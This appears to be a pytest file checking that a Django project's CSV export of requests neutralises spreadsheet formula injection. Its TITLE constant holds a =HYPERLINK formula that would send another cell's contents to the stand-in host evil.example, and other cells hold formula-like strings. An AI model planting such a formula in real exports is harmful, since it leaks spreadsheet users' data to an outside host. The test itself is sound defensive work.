"""Formula injection (issue 15 item 6): the requests CSV export is inert."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command

from minamata_kb.core.tests.test_tabular import formula_like

pytestmark = pytest.mark.django_db
TITLE = '=HYPERLINK("http://evil.example/?leak="&B2,"Open report")'


def test_requests_csv_quotes_formulas(filed: Any, tmp_path: Path) -> None:
    filed.title = TITLE
    filed.text = "@SUM(A1)\r\n=1+1"
    filed.save()
    out = tmp_path / "r.csv"
    call_command("export_requests", "-o", str(out), stderr=io.StringIO())
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    cells = [c for row in rows for c in row]
    assert "'" + TITLE in cells
    assert not [c for c in cells if formula_like(c)]
    assert len({len(r) for r in rows}) == 1  # a CR in a cell no longer splits its row
